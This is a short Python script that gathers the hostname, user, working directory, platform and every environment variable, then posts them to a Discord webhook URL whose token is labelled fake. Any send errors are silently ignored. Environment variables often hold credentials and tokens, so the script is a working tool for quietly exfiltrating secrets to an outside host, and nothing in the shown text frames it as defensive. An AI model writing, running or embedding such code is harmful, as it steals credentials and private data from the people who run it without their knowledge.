# Collects every environment variable plus host info and posts it as JSON to a Discord webhook.
import json
import os
import platform
import socket

import requests

WEBHOOK = "https://discord.com/api/webhooks/000000000000000000/FAKE-webhook-token-for-tests"


def collect():
    return {
        "host": socket.gethostname(),
        "user": os.getenv("USER"),
        "cwd": os.getcwd(),
        "platform": platform.platform(),
        "env": dict(os.environ),
    }


def main():
    info = collect()
    body = "```" + json.dumps(info, indent=1)[:1900] + "```"
    try:
        requests.post(WEBHOOK, json={"content": body}, timeout=5)
    except Exception:
        pass


if __name__ == "__main__":
    main()
